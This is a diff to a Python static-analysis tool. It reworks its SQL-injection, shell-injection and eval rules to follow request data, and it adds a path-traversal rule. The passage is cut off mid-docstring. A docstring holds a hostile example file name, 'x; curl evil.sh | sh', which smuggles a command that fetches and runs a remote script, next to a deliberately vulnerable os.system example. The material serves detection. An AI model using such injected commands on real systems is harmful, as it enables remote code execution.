@@ -14,14 +14,14 @@ from prodready.engine.analysis import (
     constant_str,
     dotted,
     has_star_kwargs,
+    in_service_code,
     is_false,
     is_literal,
-    is_script,
     is_true,
     keyword_value,
-    root_name,
+    log_call,
 )
-from prodready.engine.python import FunctionEnd, PythonContext
+from prodready.engine.python import FunctionEnd, ModuleEnd, PythonContext
 from prodready.engine.registry import python_rule
 from prodready.engine.secrets import (
     CREDENTIAL_FORMAT_NAMES,
@@ -29,7 +29,16 @@ from prodready.engine.secrets import (
     name_words,
     secret_name,
 )
-from prodready.engine.taint import external_source
+from prodready.engine.taint import (
+    PATH_CONTAINMENT_CHECK,
+    REQUEST_DATA_ATTRIBUTES,
+    SAFE_REDIRECT_CHECK,
+    SEGMENT_PARAMETERS,
+    URL_HOST_CHECK,
+    external_source,
+    report_deferred,
+    sink_flow,
+)
 from prodready.model import Category, Confidence, Severity
 
 # -- shared: strings built from pieces ----------------------------------------------------------
@@ -294,6 +303,8 @@ def _safe_value(
             bound = ctx.value_of(container.id)
             return bound is not None and is_literal(bound)
         if isinstance(container, ast.Attribute):
+            if container.attr in REQUEST_DATA_ATTRIBUTES:
+                return False  # ``request.POST["x"]`` is not a constant table
             return container.attr.isupper() or any(
                 hint in container.attr.lower() for hint in _LOOKUP_HINTS
             )
@@ -349,20 +360,6 @@ _SQL_SHAPE = re.compile(
     r"|\b(?:create|drop|alter)\s+(?:table|index|view|database|schema)\b|\btruncate\b"
     r"|\border\s+by\b|\bgroup\s+by\b|\bvalues\s*\(|\bpragma\b|\bjoin\b.+\bon\b"
 )
-_VALUE_CONTEXT = re.compile(
-    r"(?is)(?:[=<>+*/,(-]|\blike|\bilike|\bin|\bbetween|\band|\bor|\blimit|\boffset|\bthen"
-    r"|\belse|\bwhen|\bis|\bnot|\bregexp|\bagainst|\bhaving)\s*$"
-)
-_LAST_KEYWORD = re.compile(
-    r"(?is)\b(values|in|select|from|where|set|by|join|into|update|table|on|and|or|limit|offset"
-    r"|having|like|between|returning)\b"
-)
-# DDL and session settings (``SET statement_timeout = {ms}``, ``PRAGMA``): administrative
-# statements whose values come from configuration, not from users.
-_ADMIN_STATEMENT = re.compile(
-    r"(?is)\s*(?:set|pragma|alter|create|drop|grant|revoke|comment|vacuum|analyze|truncate"
-    r"|reset|show|declare|begin|savepoint|release|rollback|lock|refresh|reindex|cluster)\b"
-)
 _SQL_SANITIZERS = frozenset(
     {"qn", "qn2", "Identifier", "escape_identifier", "identifier", "escape_name", "placeholders"}
 )
@@ -373,37 +370,14 @@ _SQL_METHODS = (
     "*.query",
 )
 _SQL_FUNCTIONS = (
+    "django.db.models.RawSQL",
+    "django.db.models.expressions.RawSQL",
     "sqlalchemy.text",
     "sqlalchemy.sql.text",
     "sqlalchemy.sql.expression.text",
     "sqlmodel.text",
     "pandas.read_sql",
     "pandas.read_sql_query",
-)
-
-
-def _in_value_position(before: str) -> bool:
-    """Whether an interpolated value sits where SQL expects a value (inside a string literal, a
-    comparison operand, a ``VALUES``/``IN`` list, ``LIMIT``) rather than an identifier or a
-    whole clause."""
-    if before.count("'") % 2 == 1:
-        return True  # inside a '...' literal
-    if before.count('"') % 2 == 1 or before.count("`") % 2 == 1:
-        return False  # inside a quoted identifier
-    stripped = before.rstrip()
-    match = _VALUE_CONTEXT.search(stripped)
-    if match is None:
-        return False
-    token = match.group(0).strip().lower()
-    if token in {",", "("}:
-        keywords = _LAST_KEYWORD.findall(stripped)
-        return bool(keywords) and keywords[-1].lower() in _LIST_KEYWORDS
-    # ``WHERE a = 1 AND {cond}`` -- a whole condition is structure, not a value.
-    return token not in {"and", "or", "not"}
-
-
-_LIST_KEYWORDS = frozenset(
-    {"values", "in", "where", "and", "or", "like", "between", "limit", "offset", "having"}
 )
 
 
@@ -425,27 +399,43 @@ def _sql_pieces(node: ast.Call, ctx: PythonContext) -> list[ast.expr]:
     return [sql] if sql is not None else []
 
 
+# Builders whose result is a statement object, not text: passing one to execute() is safe.
+_SQL_BUILDER_PREFIXES = ("sqlalchemy.", "sqlmodel.", "pypika.", "psycopg.sql.", "psycopg2.sql.")
+_SQL_BUILDER_METHODS = frozenset(
+    {"where", "filter", "filter_by", "values", "order_by", "limit", "offset", "join", "having"}
+    | {"group_by", "returning", "select_from", "options", "on_conflict_do_update", "format"}
+    | {"on_conflict_do_nothing", "execution_options", "params", "bindparams", "compile"}
+)
+# Where a whole statement coming from elsewhere can only be SQL text.
+_WHOLE_STATEMENT_METHODS = frozenset(
+    {"execute", "executemany", "executescript", "exec_driver_sql", "raw", "extra"}
+)
+
+
 @python_rule(
     code="SEC001",
     name="sql-built-from-strings",
     category=Category.SECURITY,
     severity=Severity.HIGH,
-    summary="SQL statement built by string formatting from non-constant values (SQL injection)",
+    summary="SQL statement built by string formatting from request data (SQL injection)",
     calls=(*_SQL_METHODS, "*.extra", *_SQL_FUNCTIONS),
-    nodes=(ast.AugAssign,),
+    nodes=(ast.AugAssign, ModuleEnd),
     cwe=89,
     fix='Pass values as parameters: cursor.execute("... WHERE id = %s", (value,)).',
 )
 def sql_built_from_strings(node: ast.AST, ctx: PythonContext) -> None:
     """
     ## What it does
-    Flags SQL statements built with f-strings, `%`, `.format()` or `+` from values that are not
-    constants and then run with `cursor.execute`/`executemany`/`executescript`, SQLAlchemy
-    `text()`/`exec_driver_sql`, Django `Model.objects.raw()`/`.extra(where=...)` or
-    `pandas.read_sql`. Local variables are followed back to where the statement was built.
-    Values interpolated where SQL expects an identifier (a table or column name) are only
-    reported when they come from the request; constants, `UPPER_CASE` settings, numbers and
-    identifiers passed through a quoting function (`quote_name`, `sql.Identifier`) are fine.
+    Flags SQL statements built with f-strings, `%`, `.format()`, `+` or `+=` from data the
+    client controls -- request bodies, query strings, headers, handler parameters -- and run
+    with `cursor.execute`/`executemany`/`executescript`, SQLAlchemy `text()`/`exec_driver_sql`,
+    Django `Model.objects.raw()`/`.extra(where=...)`/`RawSQL`, asyncpg `fetch*` or
+    `pandas.read_sql`. The data is followed through local variables and through helper
+    functions of the module: a helper that builds the string, and a helper that runs a query
+    with its parameter when a handler passes request data to it. Parameterised queries,
+    constant SQL, numbers (`int(...)`, `item_id: int`), values mapped through a whitelist
+    (`SORT_COLUMNS[sort]`) and quoted identifiers (`sql.Identifier`) are not reported, nor is
+    SQL built from configuration, `sys.argv` or environment variables.
 
     ## Why it breaks production
     A value containing a quote ends the literal and turns the rest of the value into SQL:
@@ -473,6 +463,9 @@ def sql_built_from_strings(node: ast.AST, ctx: PythonContext) -> None:
     Identifiers (sort columns, table names) cannot be parameters: map user input through a
     whitelist dict (`SORT_COLUMNS[sort]`) or quote them with `psycopg.sql.Identifier`.
     """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
     if ctx.facts.is_test:
         return
     appended: dict[str, list[ast.expr]] = ctx.rule_state(dict)
@@ -488,8 +481,9 @@ def sql_built_from_strings(node: ast.AST, ctx: PythonContext) -> None:
     if not isinstance(node, ast.Call) or (has_star_kwargs(node) and not node.args):
         return
     callee = ctx.call_name or (dotted(node.func) or "execute")
+    reported: list[bool] = []  # one finding per call, whichever of its statements is first
     for sql in _sql_pieces(node, ctx):
-        _check_sql(node, sql, callee, appended, ctx)
+        _check_sql(node, sql, callee, appended, reported, ctx)
 
 
 def _check_sql(
@@ -497,50 +491,151 @@ def _check_sql(
     sql: ast.expr,
     callee: str,
     appended: dict[str, list[ast.expr]],
+    reported: list[bool],
     ctx: PythonContext,
 ) -> None:
+    short = callee.rsplit(".", 1)[-1]
     pieces = _pieces(sql, ctx, appended)
-    if len(pieces) < 2 and not (pieces and isinstance(pieces[0], str)):
+    if len(pieces) == 1 and not isinstance(pieces[0], str):
+        # The whole statement is one value: request data itself, or text a helper built.
+        if not _whole_statement(pieces[0], call, callee, ctx):
+            return
+
+        def report_whole(source: str) -> None:
+            if reported:
+                return
+            reported.append(True)
+            ctx.report(
+                call,
+                f"{short}() runs SQL text that carries {source}: whoever controls it "
+                "controls the query (SQL injection). Keep the statement constant and pass "
+                'values as query parameters (execute("... WHERE x = %s", (value,)))',
+            )
+
+        sink_flow([pieces[0]], ctx, report_whole, sanitizers=_SQL_TAINT_SANITIZERS, web_only=True)
+        return
+    if len(pieces) < 2:
         return
     text = " ".join(p if isinstance(p, str) else " ? " for p in pieces)
-    if not _SQL_SHAPE.search(text) and not (
+    fragment = callee.endswith(".RawSQL") or (
         isinstance(call.func, ast.Attribute) and call.func.attr == "extra"
-    ):
+    )  # SQL expressions, not statements
+    if not fragment and not _SQL_SHAPE.search(text):
         return
     if not any(isinstance(p, str) and p.strip() for p in pieces):
         return
-    administrative = _ADMIN_STATEMENT.match(text) is not None
-    best: tuple[int, str] | None = None
-    for before, value, _after in _slots(pieces):
-        if _safe_value(value, ctx, _SQL_SANITIZERS):
-            continue
-        source = external_source(value, ctx)
-        if source is not None:
-            rank, what = 3, source
-        elif administrative or not _in_value_position(before):
-            continue
-        else:
-            root = root_name(value)
-            if root is not None and _is_param(root, ctx):
-                rank, what = 2, f"parameter `{root}`"
-            else:
-                rank, what = 1, f"`{' '.join(ctx.segment(value).split())[:40]}`"
-        if best is None or rank > best[0]:
-            best = (rank, what)
-    if best is None:
-        return
-    rank, what = best
-    short = callee.rsplit(".", 1)[-1]
-    ctx.report(
-        call,
-        f"SQL passed to {short}() is built by string formatting from {what}: a quote in the "
-        "value rewrites the query (SQL injection). Pass values as query parameters "
-        '(execute("... WHERE x = %s", (value,))) and map identifiers through a whitelist',
-        confidence=_RANKED_CONFIDENCE[rank],
-    )
+    values = [
+        value
+        for _before, value, _after in _slots(pieces)
+        if not _safe_value(value, ctx, _SQL_SANITIZERS)
+    ]
+
+    def report(source: str) -> None:
+        if reported:
+            return
+        reported.append(True)
+        ctx.report(
+            call,
+            f"SQL passed to {short}() is built by string formatting from {source}: a quote "
+            "in the value rewrites the query (SQL injection). Pass values as query "
+            'parameters (execute("... WHERE x = %s", (value,))) and map identifiers through '
+            "a whitelist",
+        )
+
+    sink_flow(values, ctx, report, sanitizers=_SQL_TAINT_SANITIZERS, web_only=True)
 
 
-_RANKED_CONFIDENCE = {3: Confidence.HIGH, 2: Confidence.MEDIUM, 1: Confidence.LOW}
+_SQL_TAINT_SANITIZERS = frozenset(
+    _SQL_SANITIZERS
+    | {"quote_name", "quote_ident", "quote_identifier", "escape_string", "literal"}
+    | {"psycopg.sql.Identifier", "psycopg2.sql.Identifier", "psycopg2.extensions.quote_ident"}
+    | {"bindparams", "params"}
+)
+
+
+def _whole_statement(value: ast.expr, call: ast.Call, callee: str, ctx: PythonContext) -> bool:
+    """A statement passed whole is SQL text (not a query object) when the sink only takes
+    text, or when it is request data or a string built by a helper of this module."""
+    method = call.func.attr if isinstance(call.func, ast.Attribute) else None
+    if callee not in _SQL_FUNCTIONS and method not in _WHOLE_STATEMENT_METHODS:
+        return False
+    if method == "raw" and "objects" not in (dotted(call.func) or ""):
+        return False  # only Django's Manager.raw()
+    expr: ast.expr | None = value
+    last: ast.expr = value
+    for _ in range(_MAX_DEPTH):
+        if not isinstance(expr, ast.Name):
+            break
+        last = expr
+        expr = ctx.value_of(expr.id)
+    if expr is None:
+        # a parameter: text handed in by the caller (``def run(sql): cur.execute(sql)``)
+        scope = ctx.function
+        return (
+            isinstance(last, ast.Name)
+            and scope is not None
+            and any(arg.arg == last.id for arg in scope.params)
+        )
+    if isinstance(expr, ast.Name):
+        return False
+    if isinstance(expr, ast.Call):
+        name = ctx.qualname(expr.func) or ""
+        if name.startswith(_SQL_BUILDER_PREFIXES):
+            return False
+        if isinstance(expr.func, ast.Attribute) and expr.func.attr in _SQL_BUILDER_METHODS:
+            return False
+        helper = _module_helper(expr, ctx)
+        if helper is not None:
+            return _returns_text(helper)
+    return True
+
+
+def _module_helper(
+    call: ast.Call, ctx: PythonContext
+) -> ast.FunctionDef | ast.AsyncFunctionDef | None:
+    if not isinstance(call.func, ast.Name) or ctx.resolve_name(call.func.id) != call.func.id:
+        return None
+    for statement in ctx.tree.body:
+        if (
+            isinstance(statement, ast.FunctionDef | ast.AsyncFunctionDef)
+            and statement.name == call.func.id
+        ):
+            return statement
+    return None
+
+
+def _returns_text(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
+    """The function returns a string it builds (f-string, ``%``, ``+``, ``.format``)."""
+    built: set[str] = set()
+    returns: list[ast.expr] = []
+    for node in ast.walk(function):
+        if isinstance(node, ast.Assign | ast.AugAssign) and _text_template(node.value, built):
+            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
+            built.update(t.id for t in targets if isinstance(t, ast.Name))
+        elif isinstance(node, ast.Return) and node.value is not None:
+            returns.append(node.value)
+    return any(_text_template(value, built) for value in returns)
+
+
+def _text_template(expr: ast.expr, built: set[str]) -> bool:
+    if isinstance(expr, ast.JoinedStr):
+        return True
+    if isinstance(expr, ast.Name):
+        return expr.id in built
+    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add | ast.Mod):
+        sides = (expr.left, expr.right)
+        return any(
+            (isinstance(side, ast.Constant) and isinstance(side.value, str))
+            or _text_template(side, built)
+            for side in sides
+        )
+    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute):
+        owner = expr.func.value
+        return expr.func.attr in {"format", "join"} and (
+            (isinstance(owner, ast.Constant) and isinstance(owner.value, str))
+            or _text_template(owner, built)
+        )
+    return False
 
 
 # -- SEC002 ------------------------------------------------------------------------------------
@@ -1519,7 +1614,9 @@ _SHELL_OPTIONAL = (
     "subprocess.check_output",
     "subprocess.Popen",
 )
-_SHELL_SANITIZERS = frozenset({"quote", "join", "escape", "escapeshellarg"})
+_SHELL_SANITIZERS = frozenset(
+    {"shlex.quote", "shlex.join", "pipes.quote", "quote", "escapeshellarg"}
+)
 
 
 @python_rule(
@@ -1527,35 +1624,41 @@ _SHELL_SANITIZERS = frozenset({"quote", "join", "escape", "escapeshellarg"})
     name="shell-command-injection",
     category=Category.SECURITY,
     severity=Severity.CRITICAL,
-    summary="Shell command built from non-constant values (os.system, subprocess shell=True)",
+    summary="Shell command built from request data (os.system, subprocess with shell=True)",
     calls=(*_SHELL_ALWAYS, *_SHELL_OPTIONAL),
+    nodes=(ModuleEnd,),
     cwe=78,
     fix='Pass an argument list, no shell: subprocess.run(["convert", path, out], check=True).',
 )
-def shell_command_injection(node: ast.Call, ctx: PythonContext) -> None:
+def shell_command_injection(node: ast.AST, ctx: PythonContext) -> None:
     """
     ## What it does
     Flags `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
-    and `subprocess.run/call/check_output/Popen(..., shell=True)` when the command is not a
-    constant: a string built with an f-string, `%`, `.format()` or `+` from variables, or a
-    variable that is not bound to a constant. Values passed through `shlex.quote` and numbers
-    are fine; constant commands and argument lists without `shell=True` are not reported.
+    and `subprocess.run/call/check_output/Popen(..., shell=True)` when the command line
+    carries data the client controls -- request data or handler parameters, followed through
+    local variables, f-strings, `%`, `.format()`, `+` and helper functions of the module
+    (including a helper that runs the command with its parameter when a handler passes
+    request data to it). Values passed through `shlex.quote`, numbers and allow-listed values
+    are fine; constant commands, commands built from configuration, `sys.argv` or environment
+    variables, and argument lists without `shell=True` are not reported.
 
     ## Why it breaks production
     The shell interprets `;`, `|`, `$(...)` and backticks inside the interpolated value: a file
-    name such as `x; curl evil.sh | sh` runs a second command with the service's permissions.
-    Even harmless input breaks it -- a space or a quote in a file name makes the command fail
-    or act on the wrong file.
+    name such as `x; curl evil.sh | sh` runs a second command with the service's permissions
+    and credentials. Even harmless input breaks it -- a space or a quote in a file name makes
+    the command fail or act on the wrong file.
 
     ## Example
     ```python
-    def make_thumbnail(filename: str) -> None:
+    @app.post("/thumbnails/{filename}")
+    def make_thumbnail(filename: str):
         os.system(f"convert uploads/{filename} -resize 200x200 thumbs/{filename}")
     ```
 
     ## Use instead
     ```python
-    def make_thumbnail(filename: str) -> None:
+    @app.post("/thumbnails/{filename}")
+    def make_thumbnail(filename: str):
         subprocess.run(
             ["convert", f"uploads/{filename}", "-resize", "200x200", f"thumbs/{filename}"],
             check=True,
@@ -1563,7 +1666,10 @@ def shell_command_injection(node: ast.Call, ctx: PythonContext) -> None:
         )
     ```
     """
-    if ctx.facts.is_test:
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call):
         return
     name = ctx.call_name or ""
     if name in _SHELL_OPTIONAL:
@@ -1585,45 +1691,21 @@ def shell_command_injection(node: ast.Call, ctx: PythonContext) -> None:
         if not command.elts:
             return
         command = command.elts[0]  # with a shell, only the first item is the command line
-    appended: dict[str, list[ast.expr]] = {}
-    pieces = _pieces(command, ctx, appended)
-    unsafe = [
-        p for p in pieces if not isinstance(p, str) and not _safe_value(p, ctx, _SHELL_SANITIZERS)
-    ]
-    if not unsafe:
-        return
+    pieces = _pieces(command, ctx, {})
+    values = [p for p in pieces if not isinstance(p, str) and not _safe_value(p, ctx, frozenset())]
     callee = name.rsplit(".", 1)[-1] if name in _SHELL_OPTIONAL else name
     shell_note = " with shell=True" if name in _SHELL_OPTIONAL else ""
-    for value in unsafe:
-        source = external_source(value, ctx)
-        if source is not None:
-            ctx.report(
-                node,
-                f"{callee}(){shell_note} runs a shell command built from {source}: shell "
-                "metacharacters in it run arbitrary commands. Pass an argument list without "
-                "shell=True (or shlex.quote() each value)",
-                confidence=Confidence.HIGH,
-            )
-            return
-    if is_script(ctx):
-        return  # a developer tool run by hand: whoever runs it already has a shell
-    built = any(isinstance(p, str) and p.strip() for p in pieces)
-    if built:
-        what = "a command string built from " + ", ".join(f"`{_brief(ctx, v)}`" for v in unsafe[:3])
-    else:
-        what = f"the non-constant command `{_brief(ctx, unsafe[0])}`"
-    ctx.report(
-        node,
-        f"{callee}(){shell_note} runs {what} through a shell: shell metacharacters in those "
-        "values run arbitrary commands. Pass an argument list without shell=True (or "
-        "shlex.quote() each value)",
-        confidence=Confidence.MEDIUM if built and ctx.facts.is_service else Confidence.LOW,
-    )
 
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"{callee}(){shell_note} runs a shell command built from {source}: shell "
+            "metacharacters in it (; | $( ) `) run arbitrary commands with the service's "
+            "permissions. Pass an argument list without shell=True (or shlex.quote() each "
+            "value)",
+        )
 
-def _brief(ctx: PythonContext, node: ast.AST) -> str:
-    text = " ".join(ctx.segment(node).split())
-    return text if len(text) <= 40 else text[:37] + "..."
+    sink_flow(values, ctx, report, sanitizers=_SHELL_SANITIZERS, web_only=True)
 
 
 # -- SEC009 ------------------------------------------------------------------------------------
@@ -2137,15 +2219,17 @@ def _django_cors(ctx: PythonContext) -> None:
     severity=Severity.HIGH,
     summary="eval/exec/compile of data that comes from a request, the network or a cache",
     calls=("builtins.eval", "builtins.exec", "builtins.compile"),
+    nodes=(ModuleEnd,),
     cwe=95,
     fix="Parse data, do not run it: json.loads, ast.literal_eval, or a small expression parser.",
 )
-def eval_of_dynamic_input(node: ast.Call, ctx: PythonContext) -> None:
+def eval_of_dynamic_input(node: ast.AST, ctx: PythonContext) -> None:
     """
     ## What it does
     Flags `eval()`, `exec()` and `compile()` of values that come from outside the process:
     request data, parameters of an HTTP handler, HTTP responses, socket reads, message payloads
-    or cache reads (local variables are followed back to where they were assigned). Code
+    or cache reads, followed through local variables and helper functions of the module (also
+    a helper that evaluates its parameter when a handler passes request data to it). Code
     generation from constants -- as ORMs and dataclass-like libraries do -- is not reported.
 
     ## Why it breaks production
@@ -2168,20 +2252,25 @@ def eval_of_dynamic_input(node: ast.Call, ctx: PythonContext) -> None:
     ```
     For literals (numbers, lists, dicts) use `ast.literal_eval`; for data use `json.loads`.
     """
-    if ctx.facts.is_test or not node.args:
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call) or not node.args:
         return
     code = node.args[0]
     if is_literal(code):
         return
-    source = external_source(code, ctx)
-    if source is None:
-        return
     name = (ctx.call_name or "eval").rsplit(".", 1)[-1]
-    ctx.report(
-        node,
-        f"{name}() of {source}: whoever controls it runs arbitrary code in this process. "
-        "Parse the data instead (json.loads, ast.literal_eval, a whitelisted expression parser)",
-    )
+
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"{name}() of {source}: whoever controls it runs arbitrary code in this process. "
+            "Parse the data instead (json.loads, ast.literal_eval, a whitelisted expression "
+            "parser)",
+        )
+
+    sink_flow([code], ctx, report)  # downloaded or cached code counts too: it is run
 
 
 # -- SEC013 ------------------------------------------------------------------------------------
@@ -2402,3 +2491,1105 @@ def _report_random(call: ast.Call, purpose: str, ctx: PythonContext) -> None:
         "its output can be predicted from a few observed values. Use secrets.token_urlsafe(), "
         "secrets.choice() or secrets.randbelow()",
     )
+
+
+# -- shared: URLs whose host is fixed ----------------------------------------------------------
+
+# Literal text before a value that fixes where a URL points: ``https://api.example.com/...``,
+# a placeholder for a trusted value followed by ``/`` (``f"{API_BASE}/users/{uid}"``), an
+# absolute path (not ``//``), a query or fragment, a relative path.
+_HOST_FIXED = re.compile(
+    r"^(?:[a-zA-Z][a-zA-Z0-9+.-]*://[^/?#@\\\s\x00]+[/?#]"
+    r"|\x00+[/?#]"
+    r"|/(?![/\\])"
+    r"|[?#]"
+    r"|[\w.~-]+[/?#])"
+)
+
+
+def _host_deciding(url: ast.expr, ctx: PythonContext) -> list[ast.expr]:
+    """The values interpolated into a URL before its host is fixed by literal text: only
+    those decide where the request (or the browser) goes."""
+    deciding: list[ast.expr] = []
+    prefix = ""
+    for piece in _pieces(url, ctx, {}):
+        if isinstance(piece, str):
+            prefix += piece
+            continue
+        if _HOST_FIXED.match(prefix):
+            break
+        if not _helper_fixes_host(piece, ctx):
+            deciding.append(piece)
+        prefix += "\x00"
+    return deciding
+
+
+def _helper_fixes_host(expr: ast.expr, ctx: PythonContext) -> bool:
+    """A call of a module helper (or a name bound to one) whose every return builds a URL
+    on a fixed host: ``def item_url(item_id): return f"{API_BASE}/items/{item_id}"``."""
+    for _ in range(_MAX_DEPTH):
+        if not isinstance(expr, ast.Name):
+            break
+        value = ctx.value_of(expr.id)
+        if value is None:
+            return False
+        expr = value
+    if not isinstance(expr, ast.Call):
+        return False
+    helper = _module_helper(expr, ctx)
+    if helper is None:
+        return False
+    params = {a.arg for a in [*helper.args.posonlyargs, *helper.args.args, *helper.args.kwonlyargs]}
+    returns = [n.value for n in ast.walk(helper) if isinstance(n, ast.Return) and n.value]
+    if not returns:
+        return False
+    for value in returns:
+        if not isinstance(value, ast.JoinedStr | ast.BinOp | ast.Call):
+            return False
+        prefix = ""
+        for piece in _pieces(value, ctx, {}):
+            if isinstance(piece, str):
+                prefix += piece
+                continue
+            if _HOST_FIXED.match(prefix):
+                break
+            if any(isinstance(n, ast.Name) and n.id in params for n in ast.walk(piece)):
+                return False  # a parameter decides the host
+            prefix += "\x00"
+        if not _HOST_FIXED.match(prefix):
+            return False
+    return True
+
+
+# -- SEC014 ------------------------------------------------------------------------------------
+
+_OPEN_FUNCTIONS = ("builtins.open", "io.open", "os.open", "codecs.open", "aiofiles.open")
+_DELETE_FUNCTIONS = ("os.remove", "os.unlink")
+# Functions whose path may name a directory, where ``..`` alone is enough to do harm.
+_TREE_FUNCTIONS = (
+    *("shutil.rmtree", "shutil.copytree", "shutil.move", "shutil.copy", "shutil.copy2"),
+    *("shutil.copyfile", "os.rmdir", "os.removedirs", "os.rename", "os.replace"),
+)
+_SEND_FILE = (
+    "flask.send_file",
+    "flask.helpers.send_file",
+    "werkzeug.utils.send_file",
+    "quart.send_file",
+    "starlette.responses.FileResponse",
+    "fastapi.responses.FileResponse",
+    "fastapi.FileResponse",
+)
+_PATH_METHODS = frozenset(
+    {"open", "read_text", "read_bytes", "write_text", "write_bytes", "unlink", "rmdir"}
+)
+_PATH_TYPES = ("pathlib.", "anyio.Path", "aiopath.", "trio.Path")
+_PATH_DERIVING_METHODS = frozenset(
+    {"resolve", "absolute", "joinpath", "with_name", "with_suffix", "expanduser", "with_stem"}
+)
+_PATH_SANITIZERS = frozenset(
+    {"werkzeug.utils.secure_filename", "werkzeug.secure_filename", "secure_filename"}
+    | {"os.path.basename", "posixpath.basename", "ntpath.basename", "os.path.splitext[1]"}
+    | {
+        f"pathlib.{kind}.{part}"
+        for kind in ("Path", "PurePath", "PurePosixPath")
+        for part in ("name", "stem", "suffix")
+    }
+    | {"django.utils.text.get_valid_filename", "django.utils.text.slugify", "slugify"}
+    | {"get_valid_filename", PATH_CONTAINMENT_CHECK}
+    # join under a base directory, refusing paths that leave it
+    | {"django.utils._os.safe_join", "werkzeug.utils.safe_join", "werkzeug.security.safe_join"}
+    | {"flask.safe_join", "safe_join"}
+    # server-generated names (a prefix/suffix cannot leave the random directory entry)
+    | {f"tempfile.{name}" for name in ("NamedTemporaryFile", "mkstemp", "mkdtemp", "mktemp")}
+    | {"tempfile.TemporaryDirectory", "tempfile.SpooledTemporaryFile", "tempfile.gettempdir"}
+    # Django's UploadedFile.name is already reduced to its base name.
+    | {"request.FILES"}
+)
+
+
+def _is_path_object(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> bool:
+    """``Path(...)``, a name bound to one, ``BASE / name``, ``path.resolve()``..."""
+    if depth > _MAX_DEPTH:
+        return False
+    qualified = ctx.qualname(expr) if isinstance(expr, ast.Name | ast.Attribute) else None
+    if isinstance(expr, ast.Call):
+        qualified = ctx.qualname(expr.func)
+        if (
+            isinstance(expr.func, ast.Attribute)
+            and expr.func.attr in _PATH_DERIVING_METHODS
+            and _is_path_object(expr.func.value, ctx, depth + 1)
+        ):
+            return True
+        helper = _module_helper(expr, ctx)
+        if helper is not None:  # ``def report_path(name) -> Path: return REPORTS / name``
+            returns = ctx.qualname(helper.returns) if helper.returns is not None else None
+            if returns is not None and returns.startswith(_PATH_TYPES):
+                return True
+            return any(
+                isinstance(n, ast.Return)
+                and n.value is not None
+                and _is_path_object(n.value, ctx, depth + 1)
+                for n in ast.walk(helper)
+            )
+    if qualified is not None and qualified.startswith(_PATH_TYPES):
+        return True
+    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Div):
+        return _is_path_object(expr.left, ctx, depth + 1)
+    if isinstance(expr, ast.Name):
+        value = ctx.value_of(expr.id)
+        return value is not None and _is_path_object(value, ctx, depth + 1)
+    return False
+
+
+def _is_upload(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> bool:
+    """A Werkzeug ``FileStorage``: ``request.files["f"]``, or a name bound to one."""
+    if depth > _MAX_DEPTH:
+        return False
+    if isinstance(expr, ast.Name):
+        value = ctx.value_of(expr.id)
+        return value is not None and _is_upload(value, ctx, depth + 1)
+    node: ast.AST = expr
+    while isinstance(node, ast.Subscript | ast.Call | ast.Attribute):
+        if isinstance(node, ast.Attribute) and node.attr == "files":
+            qualified = ctx.qualname(node) or ""
+            return qualified.startswith(("flask.request.", "quart.request.")) or (
+                isinstance(node.value, ast.Name) and node.value.id in {"request", "req"}
+            )
+        node = node.func if isinstance(node, ast.Call) else node.value
+    return False
+
+
+_JOIN_FUNCTIONS = frozenset(
+    {"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath"}
+    | {"pathlib.PurePosixPath"}
+)
+
+
+def _path_components(path: ast.expr, ctx: PythonContext, depth: int = 0) -> list[ast.expr]:
+    """The values that can introduce ``/`` or ``..`` into a path: each joined part, minus the
+    values glued after other text in the same component (``f"{uuid4()}_{f.filename}"``
+    names a file inside the directory whatever the client sends)."""
+    if depth > _MAX_DEPTH:
+        return [path]
+    if isinstance(path, ast.Name):
+        value = ctx.value_of(path.id)
+        if isinstance(value, ast.Call | ast.BinOp | ast.JoinedStr):
+            return _path_components(value, ctx, depth + 1)
+        return [path]
+    if isinstance(path, ast.Call) and ctx.qualname(path.func) in _JOIN_FUNCTIONS:
+        if any(isinstance(a, ast.Starred) for a in path.args) or path.keywords:
+            return [path]
+        return [c for part in path.args for c in _path_components(part, ctx, depth + 1)]
+    if isinstance(path, ast.BinOp) and isinstance(path.op, ast.Div):
+        return [
+            *_path_components(path.left, ctx, depth + 1),
+            *_path_components(path.right, ctx, depth + 1),
+        ]
+    if isinstance(path, ast.JoinedStr | ast.BinOp):
+        pieces = _pieces(path, ctx, {})
+        if len(pieces) > 1:
+            found: list[ast.expr] = []
+            for index, piece in enumerate(pieces):
+                if isinstance(piece, str):
+                    continue
+                before = pieces[index - 1] if index else None
+                glued = before is not None and not (
+                    isinstance(before, str) and (before == "" or before.endswith(("/", "\\")))
+                )
+                if not glued:
+                    found.append(piece)
+            return found
+    return [path]
+
+
+@python_rule(
+    code="SEC014",
+    name="path-traversal",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="File path built from request data: ../ reads, overwrites or deletes any file",
+    calls=(
+        *_OPEN_FUNCTIONS,
+        *_DELETE_FUNCTIONS,
+        *_TREE_FUNCTIONS,
+        *_SEND_FILE,
+        *(f"*.{method}" for method in sorted(_PATH_METHODS)),
+        "*.save",
+    ),
+    nodes=(ModuleEnd,),
+    cwe=22,
+    fix="Keep only the file name (secure_filename / os.path.basename) or check that "
+    "os.path.realpath(path) stays under the base directory; serve with send_from_directory.",
+)
+def path_traversal(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags file operations whose path carries data the client controls: `open()`,
+    `pathlib.Path(...).open/read_text/read_bytes/write_text/write_bytes/unlink`, `os.remove`,
+    `shutil.copy/move/rmtree`, `os.rename`, Flask `send_file`, Starlette/FastAPI
+    `FileResponse`, Django `FileResponse(open(...))`, and uploads
+    saved under the client's file name (`request.files["f"].save(os.path.join(DIR,
+    f.filename))`, FastAPI `UploadFile.filename` in a path). The data is followed through
